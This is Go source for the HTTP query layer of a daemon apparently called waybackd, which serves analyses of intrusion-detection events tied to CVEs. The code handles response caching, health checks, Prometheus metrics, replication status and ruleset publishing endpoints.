		fmt.Fprintf(w, "waybackd_http_request_seconds_bucket{path=%q,code=%q,le=\"+Inf\"} %d\n",
			rs.path, rs.code, rs.count)
		fmt.Fprintf(w, "waybackd_http_request_seconds_sum{path=%q,code=%q} %g\n", rs.path, rs.code, rs.sum)
		fmt.Fprintf(w, "waybackd_http_request_seconds_count{path=%q,code=%q} %d\n", rs.path, rs.code, rs.count)
	}
}

func formatLE(v float64) string {
	return strconv.FormatFloat(v, 'g', -1, 64)
}

// statusWriter captures the response status for the latency histograms.
type statusWriter struct {
	http.ResponseWriter
	code int
}

func (w *statusWriter) WriteHeader(code int) {
	w.code = code
	w.ResponseWriter.WriteHeader(code)
}

// instrument wraps a handler so its latency and status land in the
// per-endpoint histograms. route is the registered pattern, passed explicitly
// so the label set never depends on request contents.
func (s *Server) instrument(route string, h http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		sw := &statusWriter{ResponseWriter: w, code: http.StatusOK}
		h(sw, r)
		s.http.observe(route, sw.code, time.Since(start).Seconds())
	}
}
