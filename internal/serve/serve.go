// Package serve is waybackd's query layer: an HTTP API that computes the
// paper's tables and figures from live event-store snapshots instead of a
// one-shot batch run.
//
// Every analysis endpoint is generation-cached: the event store bumps a
// generation exactly when new events land, so a response body computed at
// generation g is valid until the store moves past g. Between ingest batches
// — the common case for a telescope, where most polls find nothing new —
// every request is a cache hit and costs a map lookup, not a study
// evaluation.
//
// Endpoints:
//
//	GET /healthz                 liveness + staleness (503 once the store has
//	                             received nothing past Config.StaleAfter)
//	GET /metrics                 ingest + store + fleet + cache metrics (Prometheus text)
//	GET /v1/events               attributed events (filters: cve, since, until, limit)
//	GET /v1/fleet                per-sensor liveness, watermarks, and lag
//	GET /v1/lifecycles/{cve}     one CVE's lifecycle events
//	GET /v1/tables/{n}           paper table n (1-6, E) as rendered text
//	GET /v1/figures/{id}         paper figure id (1-18) as CSV
//	GET /v1/diff                 lifecycle diff between two as-of cuts (from, to)
//	GET /v1/skill                coordination-skill score over time (from, to, step_days)
//	GET /v1/ruleset              ruleset generation, rule count, rescan progress
//	                             (?full=1 appends the dated ruleset text)
//	POST /v1/ruleset             publish a ruleset delta (body: dated ruleset text);
//	                             swaps the live engine and queues re-attribution
//	POST /v1/ruleset/rescan      run the queued rescan now; responds with its stats
//
// With a timeline engine configured (Config.Timeline), the lifecycle, table,
// and figure endpoints accept ?asof=DATE (RFC 3339 or 2006-01-02) and answer
// from the event log as it stood at that instant — a time-travel query whose
// cost is the events since the nearest checkpoint, not a full replay.
//
// Analysis responses carry a strong ETag keyed on (store generation, as-of
// date, endpoint); If-None-Match answers 304 with an empty body, so pollers
// pay nothing while the store is quiet.
//
// When the store does move, the first read of each body is served by
// wayback.Incremental, which folds only the newly appended events into the
// running aggregates (O(new) per generation bump; amendments force a loud,
// metered rebuild — see waybackd_results_rebuilds_total). Concurrent misses
// for the same body are coalesced: one request computes, the rest wait and
// share the bytes. Cache eviction is staged — stale-generation entries go
// first, and only then the least-recently-used half of the current
// generation, so a hot working set survives a busy poller.
//
// /metrics additionally exposes per-endpoint latency histograms
// (waybackd_http_request_seconds{path,code}) — the serving-side view of the
// same quantiles cmd/waybackload measures from outside — and, when the
// daemon is a replica or a replication feed (Config.Replica /
// Config.ReplicaFeed), the replication lag gauges. A replica's /healthz
// degrades on replication staleness and answers 503 "diverged" if its
// store and the coordinator's have split histories.
package serve

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/eventstore"
	"repro/internal/fleet"
	"repro/internal/ids"
	"repro/internal/ingest"
	"repro/internal/lifecycle"
	"repro/internal/registry"
	"repro/internal/replica"
	"repro/internal/report"
	"repro/internal/rules"
	"repro/internal/stats"
	"repro/internal/timeline"
	"repro/wayback"
)

// Config wires a Server.
type Config struct {
	// Study supplies the analysis configuration (timeline mode, seed for the
	// KEV catalog). Required.
	Study *wayback.Study
	// Store is the event store snapshots come from. Required.
	Store *eventstore.Store
	// Ingest, when set, contributes pipeline metrics to /metrics.
	Ingest *ingest.Pipeline
	// Fleet, when set, backs GET /v1/fleet and per-sensor /metrics gauges.
	Fleet FleetSource
	// Timeline, when set, enables time travel: ?asof= on the analysis
	// endpoints, /v1/diff, /v1/skill, and the timeline /metrics gauges.
	Timeline *timeline.Engine
	// StaleAfter, when positive, makes /healthz answer 503 once the store
	// has received nothing for this long (measured from the later of server
	// start and the last append) — the signal a load balancer needs to
	// eject a coordinator whose ingest has stalled.
	StaleAfter time.Duration
	// Registry, when set, enables the ruleset lifecycle endpoints
	// (GET/POST /v1/ruleset, POST /v1/ruleset/rescan) and the
	// waybackd_ruleset_* /metrics gauges.
	Registry *registry.Registry
	// RescanBacklogMax makes /healthz answer 503 ("degraded") while the
	// registry's rescan backlog — digests awaiting re-attribution after a
	// publish — exceeds this many sessions: answers computed meanwhile may
	// still carry superseded labels. 0 means 65536; negative disables the
	// check.
	RescanBacklogMax int
	// Replica, when set, marks this server as a read replica: /metrics grows
	// replication gauges and /healthz measures staleness from coordinator
	// contact (not local appends) and answers 503 on a terminal replication
	// error (divergence).
	Replica ReplicaSource
	// ReplicaFeed, when set, contributes per-replica shipping gauges to
	// /metrics on a coordinator serving read replicas.
	ReplicaFeed ReplicaFeedSource
}

// ReplicaSource is the replica-side state the server reads (*replica.Replica).
type ReplicaSource interface {
	Status() replica.Status
}

// ReplicaFeedSource is the coordinator-side replication state the server
// reads (*replica.Feed).
type ReplicaFeedSource interface {
	Replicas() []replica.FeedStatus
}

// FleetSource is the slice of *fleet.Listener the server reads.
type FleetSource interface {
	Sensors() []fleet.SensorStatus
	Totals() (batches, events, dups uint64)
}

// Server computes API responses from store snapshots.
type Server struct {
	cfg   Config
	mux   *http.ServeMux
	start time.Time

	// Results maintained as deltas over the store: a generation bump folds
	// only the new events (see wayback.Incremental).
	inc *wayback.Incremental

	// As-of Results, keyed by (generation, as-of instant). Bounded; reset
	// whenever the generation moves.
	asofMu  sync.Mutex
	asofGen uint64
	asofRes map[int64]*wayback.Results

	// Rendered response bodies, keyed by endpoint + generation (+ as-of),
	// plus the in-flight builds concurrent misses coalesce onto. cacheMu
	// guards cache, flights, and cacheTick.
	cacheMu   sync.Mutex
	cache     map[string]cacheEntry
	flights   map[string]*flight
	cacheTick uint64
	hits      atomic.Uint64
	misses    atomic.Uint64

	// http records per-endpoint latency histograms for /metrics.
	http httpStats
}

type cacheEntry struct {
	gen      uint64
	body     []byte
	ctype    string
	lastUsed uint64 // cacheTick at last hit or insert, for LRU eviction
}

// flight is one in-progress body build; concurrent misses on the same
// (generation, key) wait on done instead of building again.
type flight struct {
	done  chan struct{}
	body  []byte
	ctype string
	err   error
}

// maxCacheEntries bounds the response cache: ?asof= makes the key space
// unbounded. At the cap, stale-generation entries are evicted first; if
// current-generation bodies alone fill the cache, the least-recently-used
// half goes — hot current bodies are never dropped wholesale.
const maxCacheEntries = 1024

// New builds a Server.
func New(cfg Config) (*Server, error) {
	if cfg.Study == nil || cfg.Store == nil {
		return nil, fmt.Errorf("serve: Config needs Study and Store")
	}
	s := &Server{
		cfg: cfg, mux: http.NewServeMux(), start: time.Now(),
		inc:     cfg.Study.NewIncremental(cfg.Store),
		cache:   make(map[string]cacheEntry),
		flights: make(map[string]*flight),
	}
	handle := func(pattern, route string, h http.HandlerFunc) {
		s.mux.HandleFunc(pattern, s.instrument(route, h))
	}
	handle("GET /healthz", "/healthz", s.handleHealthz)
	handle("GET /metrics", "/metrics", s.handleMetrics)
	handle("GET /v1/events", "/v1/events", s.handleEvents)
	handle("GET /v1/fleet", "/v1/fleet", s.handleFleet)
	handle("GET /v1/lifecycles/{cve}", "/v1/lifecycles/{cve}", s.handleLifecycle)
	handle("GET /v1/tables/{n}", "/v1/tables/{n}", s.handleTable)
	handle("GET /v1/figures/{id}", "/v1/figures/{id}", s.handleFigure)
	handle("GET /v1/diff", "/v1/diff", s.handleDiff)
	handle("GET /v1/skill", "/v1/skill", s.handleSkill)
	handle("GET /v1/ruleset", "/v1/ruleset", s.handleRulesetGet)
	handle("POST /v1/ruleset", "/v1/ruleset", s.handleRulesetPublish)
	handle("POST /v1/ruleset/rescan", "/v1/ruleset/rescan", s.handleRulesetRescan)
	return s, nil
}

// Handler returns the routable HTTP handler.
func (s *Server) Handler() http.Handler { return s.mux }

// CacheStats reports response-cache hits and misses since start. A miss is a
// request that built a body; requests coalesced onto another request's build
// count as hits (they got a body without paying for one).
func (s *Server) CacheStats() (hits, misses uint64) {
	return s.hits.Load(), s.misses.Load()
}

// results returns the Results for the store's current snapshot. The
// incremental view folds only the events appended since the last call, so a
// generation bump costs O(new events); amendments trigger its metered
// fallback rebuild (see wayback.Incremental).
func (s *Server) results() (*wayback.Results, uint64) {
	return s.inc.Results()
}

// cachedBody returns the response body for key at generation gen, building it
// at most once however many requests miss concurrently: the first miss runs
// build, the rest wait for its result. hit reports whether this request
// avoided building (cache hit or coalesced onto another build).
func (s *Server) cachedBody(gen uint64, key string, build func() ([]byte, string, error)) (body []byte, ctype string, hit bool, err error) {
	fkey := strconv.FormatUint(gen, 10) + "/" + key
	s.cacheMu.Lock()
	if e, ok := s.cache[key]; ok && e.gen == gen {
		s.cacheTick++
		e.lastUsed = s.cacheTick
		s.cache[key] = e
		s.cacheMu.Unlock()
		return e.body, e.ctype, true, nil
	}
	if f, ok := s.flights[fkey]; ok {
		s.cacheMu.Unlock()
		<-f.done
		return f.body, f.ctype, true, f.err
	}
	f := &flight{done: make(chan struct{})}
	s.flights[fkey] = f
	s.cacheMu.Unlock()

	f.body, f.ctype, f.err = build()
	close(f.done)

	s.cacheMu.Lock()
	delete(s.flights, fkey)
	if f.err == nil {
		s.storeCacheEntry(key, cacheEntry{gen: gen, body: f.body, ctype: f.ctype})
	}
	s.cacheMu.Unlock()
	return f.body, f.ctype, false, f.err
}

// storeCacheEntry inserts a body under the size cap. Eviction at the cap is
// staged: stale-generation entries go first (they can never hit again); if
// the cache is still full — every entry current, an ?asof= key flood — the
// least-recently-used half goes, keeping the hot current-generation bodies.
// Callers hold cacheMu.
func (s *Server) storeCacheEntry(key string, e cacheEntry) {
	if len(s.cache) >= maxCacheEntries {
		for k, old := range s.cache {
			if old.gen != e.gen {
				delete(s.cache, k)
			}
		}
	}
	if len(s.cache) >= maxCacheEntries {
		type keyUse struct {
			key  string
			used uint64
		}
		all := make([]keyUse, 0, len(s.cache))
		for k, old := range s.cache {
			all = append(all, keyUse{k, old.lastUsed})
		}
		sort.Slice(all, func(i, j int) bool { return all[i].used < all[j].used })
		for _, x := range all[:len(all)/2] {
			delete(s.cache, x.key)
		}
	}
	s.cacheTick++
	e.lastUsed = s.cacheTick
	s.cache[key] = e
}

// serveCached answers from the response cache when the store generation (and
// the as-of date, for time-travel requests) has not moved since the body was
// built. Responses carry a strong ETag derived from (generation, as-of,
// endpoint); a matching If-None-Match short-circuits to 304 before any
// analysis runs.
func (s *Server) serveCached(w http.ResponseWriter, r *http.Request, key string, build func(res *wayback.Results) ([]byte, string, error)) {
	asof, err := parseDateParam(r.URL.Query().Get("asof"))
	if err != nil {
		http.Error(w, "bad asof: "+err.Error(), http.StatusBadRequest)
		return
	}
	var (
		res *wayback.Results
		gen uint64
	)
	if asof.IsZero() {
		res, gen = s.results()
	} else {
		if s.cfg.Timeline == nil {
			http.Error(w, "time travel not enabled (no timeline engine)", http.StatusNotFound)
			return
		}
		key += "?asof=" + asof.UTC().Format(time.RFC3339Nano)
		res, gen, err = s.asofResults(asof)
		if err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
	}
	etag := responseETag(gen, key)
	if notModified(r, etag) {
		s.hits.Add(1)
		w.Header().Set("ETag", etag)
		w.Header().Set("X-Store-Generation", strconv.FormatUint(gen, 10))
		w.WriteHeader(http.StatusNotModified)
		return
	}
	body, ctype, hit, err := s.cachedBody(gen, key, func() ([]byte, string, error) {
		return build(res)
	})
	if hit {
		s.hits.Add(1)
	} else {
		s.misses.Add(1)
	}
	if err != nil {
		var nf errNotFound
		if errors.As(err, &nf) {
			http.Error(w, nf.msg, http.StatusNotFound)
		} else {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
		return
	}
	s.write(w, gen, etag, body, ctype)
}

// responseETag is the strong validator for a cached analysis body: exact for
// a given (store generation, endpoint, as-of date) triple, all of which are
// already folded into key by serveCached.
func responseETag(gen uint64, key string) string {
	return fmt.Sprintf("%q", fmt.Sprintf("%d/%s", gen, key))
}

// notModified reports whether the request's If-None-Match matches etag.
// Weak-comparison: a W/ prefix on the client's validator is ignored, which is
// safe here because a matching tag always denotes the identical body.
func notModified(r *http.Request, etag string) bool {
	inm := r.Header.Get("If-None-Match")
	if inm == "" {
		return false
	}
	for _, v := range strings.Split(inm, ",") {
		v = strings.TrimPrefix(strings.TrimSpace(v), "W/")
		if v == "*" || v == etag {
			return true
		}
	}
	return false
}

func (s *Server) write(w http.ResponseWriter, gen uint64, etag string, body []byte, ctype string) {
	w.Header().Set("Content-Type", ctype)
	w.Header().Set("X-Store-Generation", strconv.FormatUint(gen, 10))
	if etag != "" {
		w.Header().Set("ETag", etag)
	}
	w.Write(body)
}

// handleHealthz reports liveness plus the lag a load balancer should act on.
// The first line is "ok" or "stale"; subsequent lines carry ingest and fleet
// backlog. With StaleAfter configured, a store that has received nothing for
// that long (counting from server start for an empty store) answers 503 so
// the balancer ejects this coordinator.
func (s *Server) handleHealthz(w http.ResponseWriter, r *http.Request) {
	var ingestLag int64
	if p := s.cfg.Ingest; p != nil {
		ingestLag = p.Metrics().Lag()
	}
	var fleetLag int64
	if f := s.cfg.Fleet; f != nil {
		for _, sensor := range f.Sensors() {
			fleetLag += int64(sensor.SpooledBatches) + sensor.IngestLag
		}
	}
	// On a read replica, staleness means lost coordinator contact, not a
	// quiet local store: the store only moves when replication ships
	// something, and a healthy-but-idle coordinator still heartbeats. A
	// terminal replication error (divergence, shard mismatch) makes the node
	// unhealthy regardless of age.
	var rep *replica.Status
	if s.cfg.Replica != nil {
		st := s.cfg.Replica.Status()
		rep = &st
	}
	last := s.cfg.Store.LastAppend()
	if rep != nil {
		last = rep.LastContact
	}
	if last.IsZero() || last.Before(s.start) {
		last = s.start
	}
	age := time.Since(last)
	stale := s.cfg.StaleAfter > 0 && age > s.cfg.StaleAfter

	// A rescan backlog past the threshold degrades the node: the store is
	// healthy, but answers may still carry labels a publish has superseded.
	var rescanBacklog int64
	degraded := false
	if reg := s.cfg.Registry; reg != nil && s.cfg.RescanBacklogMax >= 0 {
		limit := s.cfg.RescanBacklogMax
		if limit == 0 {
			limit = defaultRescanBacklogMax
		}
		rescanBacklog = reg.RescanPending()
		degraded = rescanBacklog > int64(limit)
	}

	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	switch {
	case rep != nil && rep.Err != "":
		w.WriteHeader(http.StatusServiceUnavailable)
		fmt.Fprintln(w, "diverged")
	case stale:
		w.WriteHeader(http.StatusServiceUnavailable)
		fmt.Fprintln(w, "stale")
	case degraded:
		w.WriteHeader(http.StatusServiceUnavailable)
		fmt.Fprintln(w, "degraded")
	default:
		fmt.Fprintln(w, "ok")
	}
	fmt.Fprintf(w, "ingest_lag %d\n", ingestLag)
	fmt.Fprintf(w, "fleet_lag %d\n", fleetLag)
	fmt.Fprintf(w, "store_age_seconds %.3f\n", age.Seconds())
	if s.cfg.Registry != nil {
		fmt.Fprintf(w, "rescan_backlog %d\n", rescanBacklog)
	}
	if rep != nil {
		connected := 0
		if rep.Connected {
			connected = 1
		}
		fmt.Fprintf(w, "replica_connected %d\n", connected)
		fmt.Fprintf(w, "replica_lag_events %d\n", rep.LagEvents)
		if rep.Err != "" {
			fmt.Fprintf(w, "replica_error %s\n", rep.Err)
		}
	}
}

// defaultRescanBacklogMax is the rescan backlog above which /healthz
// degrades when Config.RescanBacklogMax is zero.
const defaultRescanBacklogMax = 65536

// handleFleet serves per-sensor liveness and progress. Never cached: the
// gauges (connectedness, lag, heartbeat age) move without the store
// generation changing.
func (s *Server) handleFleet(w http.ResponseWriter, r *http.Request) {
	if s.cfg.Fleet == nil {
		http.Error(w, "fleet listener not enabled", http.StatusNotFound)
		return
	}
	sensors := s.cfg.Fleet.Sensors()
	batches, events, dups := s.cfg.Fleet.Totals()
	out := struct {
		Sensors    []fleet.SensorStatus `json:"sensors"`
		Batches    uint64               `json:"batches"`
		Events     uint64               `json:"events"`
		DupBatches uint64               `json:"dup_batches"`
	}{Sensors: sensors, Batches: batches, Events: events, DupBatches: dups}
	if out.Sensors == nil {
		out.Sensors = []fleet.SensorStatus{}
	}
	body, err := json.Marshal(out)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(body)
}

// handleMetrics emits Prometheus text exposition. Never cached: gauges move
// without the store generation changing.
func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	var b bytes.Buffer
	g := func(name string, v any) { fmt.Fprintf(&b, "waybackd_%s %v\n", name, v) }
	g("store_events", s.cfg.Store.Len())
	g("store_bytes", s.cfg.Store.SizeBytes())
	g("store_generation", s.cfg.Store.Generation())
	for _, sh := range s.cfg.Store.ShardStats() {
		label := fmt.Sprintf("{shard=\"%d\"}", sh.Shard)
		g("store_shard_records"+label, sh.Records)
		g("store_shard_bytes"+label, sh.SizeBytes)
		var lastUnix int64
		if !sh.LastAppend.IsZero() {
			lastUnix = sh.LastAppend.Unix()
		}
		g("store_shard_last_append_seconds"+label, lastUnix)
	}
	g("cache_hits", s.hits.Load())
	g("cache_misses", s.misses.Load())
	im := s.inc.Metrics()
	g("results_folds_total", im.Folds)
	g("results_folded_events_total", im.FoldedEvents)
	g("results_rebuilds_total", im.Rebuilds)
	if reg := s.cfg.Registry; reg != nil {
		g("ruleset_generation", reg.Generation())
		g("ruleset_rules", reg.NumRules())
		g("ruleset_rescan_pending", reg.RescanPending())
		g("ruleset_rescan_done", reg.RescanDone())
		g("ruleset_digests", reg.DigestCount())
		as := s.cfg.Store.AmendmentStats()
		g("store_amendment_records", as.Records)
		g("store_amended_sessions", as.Sessions)
	}
	if eng := s.cfg.Timeline; eng != nil {
		m := eng.Metrics()
		g("timeline_segments", m.Segments)
		g("timeline_sealed_events", m.SealedEvents)
		g("timeline_sealed_bytes", m.SealedBytes)
		g("timeline_checkpoints", m.Checkpoints)
		g("timeline_checkpoint_events", m.CheckpointEvents)
		// -1 means "no checkpoint yet" — distinguishable from a fresh one.
		age := -1.0
		if !m.CheckpointAt.IsZero() {
			age = time.Since(m.CheckpointAt).Seconds()
		}
		g("timeline_checkpoint_age_seconds", age)
	}
	if f := s.cfg.Fleet; f != nil {
		sensors := f.Sensors()
		batches, events, dups := f.Totals()
		g("fleet_sensors", len(sensors))
		g("fleet_batches", batches)
		g("fleet_events", events)
		g("fleet_dup_batches", dups)
		// Group-commit health, when the source exposes it (the concrete
		// *fleet.Listener does; the interface stays minimal for tests).
		if cs, ok := f.(interface{ CommitStats() fleet.CommitStats }); ok {
			st := cs.CommitStats()
			g("fleet_commits_total", st.Commits)
			g("fleet_commit_coalesced_batches_total", st.CoalescedBatches)
			g("fleet_commit_queue_depth", st.QueueDepth)
			g("fleet_commit_last_batches", st.LastBatches)
			g("fleet_commit_last_fsync_seconds", float64(st.LastFsyncNanos)/1e9)
		}
		for _, sensor := range sensors {
			label := fmt.Sprintf("{sensor=%q}", sensor.ID)
			connected := 0
			if sensor.Connected {
				connected = 1
			}
			g("fleet_sensor_connected"+label, connected)
			g("fleet_sensor_watermark"+label, sensor.Watermark)
			g("fleet_sensor_events"+label, sensor.Events)
			g("fleet_sensor_dup_batches"+label, sensor.DupBatches)
			g("fleet_sensor_spooled_batches"+label, sensor.SpooledBatches)
			g("fleet_sensor_ingest_lag"+label, sensor.IngestLag)
			g("fleet_sensor_last_seen_seconds"+label, sensor.LastSeen.Unix())
		}
	}
	if p := s.cfg.Ingest; p != nil {
		m := p.Metrics()
		g("ingest_packets", m.Packets)
		g("ingest_decode_errors", m.DecodeErrors)
		g("ingest_sessions", m.Sessions)
		g("ingest_events", m.Events)
		g("ingest_batches", m.Batches)
		g("ingest_segments_done", m.SegmentsDone)
		g("ingest_skipped_bytes", m.SkippedBytes)
		g("ingest_open_conns", m.OpenConns)
		g("ingest_pending_sessions", m.PendingSessions)
		g("ingest_queued_batches", m.QueuedBatches)
		g("ingest_pending_bytes", m.PendingBytes)
		g("ingest_lag", m.Lag())
		idle := 0
		if m.Idle() {
			idle = 1
		}
		g("ingest_idle", idle)
		g("ingest_batch_latency_seconds", m.LastBatchLatency.Seconds())
		// Explicit _total spelling for the sessions counter (the bare
		// ingest_sessions gauge name predates it and is kept for
		// compatibility).
		g("ingest_sessions_total", m.Sessions)
		g("ingest_ambiguous_sessions_total", m.AmbiguousSessions)
		for _, sh := range p.ShardStats() {
			label := fmt.Sprintf("{shard=\"%d\"}", sh.Shard)
			g("ingest_shard_open_conns"+label, sh.OpenConns)
			g("ingest_shard_queue_depth"+label, sh.Queued)
			g("ingest_shard_packets"+label, sh.Packets)
		}
	}
	if rs := s.cfg.Replica; rs != nil {
		st := rs.Status()
		connected := 0
		if st.Connected {
			connected = 1
		}
		g("replica_connected", connected)
		g("replica_lag_events", st.LagEvents)
		g("replica_lag_amendments", st.LagAmends)
		g("replica_rounds_total", st.Rounds)
		g("replica_events_applied_total", st.EventsApplied)
		g("replica_amendments_applied_total", st.AmendsApplied)
		g("replica_coordinator_events", st.CoordEvents)
		g("replica_local_events", st.LocalEvents)
		// -1 means "never heard from the coordinator".
		contact := -1.0
		if !st.LastContact.IsZero() {
			contact = time.Since(st.LastContact).Seconds()
		}
		g("replica_last_contact_seconds", contact)
		fatal := 0
		if st.Err != "" {
			fatal = 1
		}
		g("replica_fatal", fatal)
	}
	if ff := s.cfg.ReplicaFeed; ff != nil {
		replicas := ff.Replicas()
		g("replica_feed_replicas", len(replicas))
		for _, st := range replicas {
			label := fmt.Sprintf("{replica=%q}", st.ID)
			connected := 0
			if st.Connected {
				connected = 1
			}
			g("replica_feed_connected"+label, connected)
			g("replica_feed_events_sent_total"+label, st.EventsSent)
			g("replica_feed_amendments_sent_total"+label, st.AmendsSent)
			g("replica_feed_rounds_total"+label, st.Rounds)
			g("replica_feed_lag_events"+label, st.LagEvents)
			ack := -1.0
			if !st.LastAck.IsZero() {
				ack = time.Since(st.LastAck).Seconds()
			}
			g("replica_feed_last_ack_seconds"+label, ack)
		}
	}
	s.http.writeProm(&b)
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	w.Write(b.Bytes())
}

// rulesetJSON is the wire form of the registry's state.
type rulesetJSON struct {
	Generation      uint64 `json:"generation"`
	Rules           int    `json:"rules"`
	Digests         int64  `json:"digests"`
	RescanNeeded    bool   `json:"rescan_needed"`
	RescanPending   int64  `json:"rescan_pending"`
	RescanDone      int64  `json:"rescan_done"`
	AmendedSessions int    `json:"amended_sessions"`
	// Ruleset carries the dated ruleset text when ?full=1 is given.
	Ruleset string `json:"ruleset,omitempty"`
}

func (s *Server) rulesetState() rulesetJSON {
	reg := s.cfg.Registry
	return rulesetJSON{
		Generation:      reg.Generation(),
		Rules:           reg.NumRules(),
		Digests:         reg.DigestCount(),
		RescanNeeded:    reg.RescanNeeded(),
		RescanPending:   reg.RescanPending(),
		RescanDone:      reg.RescanDone(),
		AmendedSessions: s.cfg.Store.AmendmentStats().Sessions,
	}
}

func (s *Server) writeJSON(w http.ResponseWriter, v any) {
	body, err := json.Marshal(v)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	w.Write(body)
}

// handleRulesetGet reports the registry's state: generation, rule count, and
// re-attribution progress. Never cached: rescan gauges move without the
// store generation changing.
func (s *Server) handleRulesetGet(w http.ResponseWriter, r *http.Request) {
	if s.cfg.Registry == nil {
		http.Error(w, "ruleset registry not enabled", http.StatusNotFound)
		return
	}
	out := s.rulesetState()
	if v := r.URL.Query().Get("full"); v == "1" || v == "true" {
		var b bytes.Buffer
		if err := rules.WriteDatedRuleset(&b, s.cfg.Registry.Ruleset()); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		out.Ruleset = b.String()
	}
	s.writeJSON(w, out)
}

// handleRulesetPublish appends a ruleset delta (request body: dated ruleset
// text, a publication comment per rule) to the journal and swaps the live
// engine. The response reports the new generation; re-attribution of stored
// history is queued, not yet run — POST /v1/ruleset/rescan drives it.
func (s *Server) handleRulesetPublish(w http.ResponseWriter, r *http.Request) {
	if s.cfg.Registry == nil {
		http.Error(w, "ruleset registry not enabled", http.StatusNotFound)
		return
	}
	delta, errs := rules.ParseDatedSet(r.Body)
	if len(errs) > 0 {
		msgs := make([]string, 0, len(errs))
		for _, err := range errs {
			msgs = append(msgs, err.Error())
		}
		http.Error(w, "bad ruleset delta:\n"+strings.Join(msgs, "\n"), http.StatusBadRequest)
		return
	}
	if len(delta) == 0 {
		http.Error(w, "empty ruleset delta", http.StatusBadRequest)
		return
	}
	if _, err := s.cfg.Registry.Publish(delta); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	s.writeJSON(w, s.rulesetState())
}

// rescanStatsJSON is the wire form of one rescan run's outcome.
type rescanStatsJSON struct {
	Digests    int         `json:"digests"`
	Amended    int         `json:"amended"`
	Additions  int         `json:"additions"`
	Retracted  int         `json:"retracted"`
	SkippedCap int         `json:"skipped_truncated"`
	Ruleset    rulesetJSON `json:"ruleset"`
}

// handleRulesetRescan runs the queued re-attribution pass synchronously and
// reports what it amended. Rescans are serialized inside the registry, so a
// concurrent POST waits rather than doubling work.
func (s *Server) handleRulesetRescan(w http.ResponseWriter, r *http.Request) {
	if s.cfg.Registry == nil {
		http.Error(w, "ruleset registry not enabled", http.StatusNotFound)
		return
	}
	st, err := s.cfg.Registry.Rescan(s.cfg.Store)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	s.writeJSON(w, rescanStatsJSON{
		Digests:    st.Digests,
		Amended:    st.Amended,
		Additions:  st.Additions,
		Retracted:  st.Retracted,
		SkippedCap: st.SkippedCap,
		Ruleset:    s.rulesetState(),
	})
}

// eventJSON is the wire form of an attributed event.
type eventJSON struct {
	Time      time.Time `json:"time"`
	Src       string    `json:"src"`
	Dst       string    `json:"dst"`
	SID       int       `json:"sid"`
	CVE       string    `json:"cve,omitempty"`
	Published time.Time `json:"rule_published"`
	Msg       string    `json:"msg"`
	Bytes     int       `json:"bytes"`
	Ambiguous bool      `json:"ambiguous,omitempty"`
}

func toEventJSON(ev ids.Event) eventJSON {
	return eventJSON{
		Time: ev.Time, Src: ev.Src.String(), Dst: ev.Dst.String(),
		SID: ev.SID, CVE: ev.CVE, Published: ev.Published,
		Msg: ev.Msg, Bytes: ev.Bytes, Ambiguous: ev.Ambiguous,
	}
}

// handleEvents serves the raw attributed events off the current snapshot.
// Filtered views are cheap slices of the snapshot, so they are built per
// request rather than cached.
func (s *Server) handleEvents(w http.ResponseWriter, r *http.Request) {
	sn := s.cfg.Store.Snapshot()
	events := sn.Events()
	q := r.URL.Query()
	if cve := trimCVE(q.Get("cve")); cve != "" {
		events = sn.CVE(cve)
	}
	since, err := parseTimeParam(q.Get("since"))
	if err != nil {
		http.Error(w, "bad since: "+err.Error(), http.StatusBadRequest)
		return
	}
	until, err := parseTimeParam(q.Get("until"))
	if err != nil {
		http.Error(w, "bad until: "+err.Error(), http.StatusBadRequest)
		return
	}
	limit := 0
	if v := q.Get("limit"); v != "" {
		limit, err = strconv.Atoi(v)
		if err != nil || limit < 0 {
			http.Error(w, "bad limit", http.StatusBadRequest)
			return
		}
	}
	out := struct {
		Generation uint64      `json:"generation"`
		Total      int         `json:"total"`
		Events     []eventJSON `json:"events"`
	}{Generation: sn.Generation(), Events: []eventJSON{}}
	for _, ev := range events {
		if !since.IsZero() && ev.Time.Before(since) {
			continue
		}
		if !until.IsZero() && !ev.Time.Before(until) {
			continue
		}
		out.Total++
		if limit == 0 || len(out.Events) < limit {
			out.Events = append(out.Events, toEventJSON(ev))
		}
	}
	body, err := json.Marshal(out)
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	s.write(w, sn.Generation(), "", body, "application/json")
}

func parseTimeParam(v string) (time.Time, error) {
	if v == "" {
		return time.Time{}, nil
	}
	return time.Parse(time.RFC3339, v)
}

// parseDateParam accepts either a full RFC 3339 instant or a bare
// YYYY-MM-DD date (midnight UTC) — the forms ?asof=, ?from=, and ?to= take.
func parseDateParam(v string) (time.Time, error) {
	if v == "" {
		return time.Time{}, nil
	}
	if t, err := time.Parse(time.RFC3339, v); err == nil {
		return t, nil
	}
	t, err := time.Parse("2006-01-02", v)
	if err != nil {
		return time.Time{}, fmt.Errorf("want RFC 3339 or YYYY-MM-DD, got %q", v)
	}
	return t, nil
}

// trimCVE normalizes "CVE-2021-44228" to the repo's bare "2021-44228" form.
func trimCVE(cve string) string {
	return strings.TrimPrefix(strings.TrimPrefix(cve, "CVE-"), "cve-")
}

func (s *Server) handleLifecycle(w http.ResponseWriter, r *http.Request) {
	cve := trimCVE(r.PathValue("cve"))
	s.serveCached(w, r, "lifecycle/"+cve, func(res *wayback.Results) ([]byte, string, error) {
		for i := range res.Timelines {
			if res.Timelines[i].CVE == cve {
				return marshalTimeline(&res.Timelines[i])
			}
		}
		return nil, "", errNotFound{"no lifecycle for CVE-" + cve}
	})
}

// errNotFound lets a cache builder signal 404 instead of 500.
type errNotFound struct{ msg string }

